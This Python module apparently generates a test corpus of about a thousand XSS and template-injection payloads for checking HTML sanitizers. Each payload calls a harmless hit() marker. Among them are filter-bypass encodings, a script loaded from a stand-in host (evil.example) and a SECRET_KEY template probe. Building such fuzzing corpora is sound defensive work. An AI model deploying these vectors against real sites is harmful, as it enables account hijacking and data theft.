"""A thousand ways to make a page run what somebody wrote. Each would call ``hit()``."""

from __future__ import annotations

import itertools

__all__ = ["PAYLOADS", "joined"]

_EVENTS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "oninput", "onchange",
    "ontoggle", "onanimationstart", "ontransitionend", "onpointerenter", "onwheel", "onscroll",
    "onpageshow", "onhashchange", "onbeforeinput", "onauxclick", "onkeydown", "ondragstart",
)  # fmt: skip
_TAGS = (
    "img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open",
    "iframe src=x", "object data=x", "embed src=x", "marquee", "select autofocus", "math",
    "image src=x", "link rel=stylesheet href=x", "style", "a href=x", "button autofocus",
)  # fmt: skip
_BREAKS = ("", "'", '"', "'>", '">', "</title>", "</textarea>", "</script>", "-->", "]]>", "\\'")
_URLS = (
    "javascript:hit()", "JaVaScRiPt:hit()", "java\tscript:hit()", "java\nscript:hit()",
    "&#106;avascript:hit()", "&#x6A;avascript:hit()", "javascript&colon;hit()",
    "\x01javascript:hit()", " javascript:hit()", "data:text/html,<script>hit()</script>",
    "data:image/svg+xml,<svg onload=hit()>", "vbscript:hit()", "jav&#x09;ascript:hit()",
    "javascript://%0ahit()", "blob:hit()", "//evil.example/x.js",
)  # fmt: skip
_PLACES = (
    '<a href="{}">x</a>', '<iframe src="{}"></iframe>', '<form action="{}"><button>x</form>',
    '<button formaction="{}">x</button>', '<object data="{}"></object>', '<embed src="{}">',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>', '<math href="{}">x</math>',
    '<base href="{}">', '<meta http-equiv=refresh content="0;url={}">', "[x]({})", "{}",
    '<script src="{}"></script>', '<img src="{}">', '<area href="{}">',
    '<link rel=import href="{}">',
)  # fmt: skip
_SCRIPTS = (
    "<script>hit()</script>", "<ScRiPt>hit()</sCrIpT>", "<script/x>hit()</script>",
    "<script\n>hit()</script\n>", "<scr<script>ipt>hit()</scr</script>ipt>",
    "<script>hit()//", "<svg><script>hit()</script></svg>",
    "<svg><script href='data:,hit()'/></svg>", "<script type=module>hit()</script>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<template><script>hit()</script></template>", "<xss-el onclick=hit()>x</xss-el>",
    "<style>@import 'javascript:hit()';</style>",
    "<p style=\"background:url('javascript:hit()')\">",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:hit()></svg>",
    "<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
)  # fmt: skip
_SYNTAX = (
    "{{% load static %}}{0}", "{{{{ 1337|add:1 }}}}{0}", "{{{{ settings.SECRET_KEY }}}}{0}",
    "${{hit()}}{0}", "#{{hit()}}{0}", "<%= hit() %>{0}",
    "{{{{constructor.constructor('hit()')()}}}}{0}",
    "%(x)s %d {0}", "{{0.__class__}}{0}", "⟦words⟧⟦who⟧{0}", "$&$'$`{0}", "{{% include 'x' %}}{0}",
    "{{# x #}}{0}", "javascript:/*--></title></style></textarea>{0}", "hx-on:click=hit() {0}",
)  # fmt: skip
_HTMX = (
    '<p hx-on:click="hit()">', '<p hx-get="/x" hx-trigger="load[hit()]">',
    "<p hx-vals='js:{x:hit()}' hx-get=/x hx-trigger=load>", '<p data-hx-get="/x">',
    '<p hx-swap-oob="true" id=main>', '<meta name="htmx-config" content=\'{"allowEval":true}\'>',
    '<p data-share="javascript:hit()">', '<template id="toast-error"><img src=x onerror=hit()>',
    '<p data-room="x" data-lines>', '<body data-member="operator-1">',
)  # fmt: skip
_DISGUISES = (
    str,
    lambda text: text.replace("<", "＜").replace(">", "＞"),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "&#60;").replace(">", "&#x3e;"),
    lambda text: text.replace("<", "<\u200b"),
    lambda text: "\u202e" + text + "\u202c",
    lambda text: text.replace("<", "\u00bc").replace(">", "\u00be"),  # US-ASCII of old browsers
    lambda text: text.replace("s", "ſ").replace("k", "K"),  # letters that fold to others
    lambda text: "+ADw-script+AD4-" + text,  # UTF-7
    lambda text: "\ufeff" + text,
    lambda text: text.replace("<", "&amp;lt;"),
    lambda text: text + "\ud83d".encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
)


def _made() -> list[str]:
    handlers = [
        f"{before}<{tag} {event}=hit()>"
        for number, (tag, event) in enumerate(itertools.product(_TAGS, _EVENTS))
        for before in (_BREAKS[number % len(_BREAKS)],)
    ]
    attributes = [
        f"{before} {event}=hit() x={after}"
        for before, event, after in zip(
            itertools.cycle(("'", '"', "`", "x")), _EVENTS, itertools.cycle(("'", '"', "`", ""))
        )
    ]
    urls = [place.replace("{}", url) for place, url in itertools.product(_PLACES, _URLS)]
    syntax = [one.format(_SCRIPTS[n % len(_SCRIPTS)]) for n, one in enumerate(_SYNTAX)]
    broken = [f"{before}{script}" for before, script in itertools.product(_BREAKS, _SCRIPTS[:12])]
    disguised = [
        dress(script) for dress, script in itertools.product(_DISGUISES, (*_SCRIPTS, *_HTMX))
    ]
    everything = [*_SCRIPTS, *_HTMX, *syntax, *attributes, *disguised, *urls, *broken, *handlers]
    return list(dict.fromkeys(everything))


# Short ones stand early: a column of sixty characters sees every kind, too. The step has no part
# in common with their number, so that neighbours are of different kinds.
_ALL = _made()
PAYLOADS = [_ALL[(n * 389) % len(_ALL)] for n in range(len(_ALL))][:1000]


def joined(most: int, first: int = 0) -> str:
    """As many whole payloads as fit, from a place on; at least a part of one."""
    told = ""
    for number in range(len(PAYLOADS)):
        payload = PAYLOADS[(first + number) % len(PAYLOADS)]
        if len(told) + len(payload) + 1 > most:
            if told:
                break
            continue
        told = f"{told} {payload}" if told else payload
    return told or "<b>"
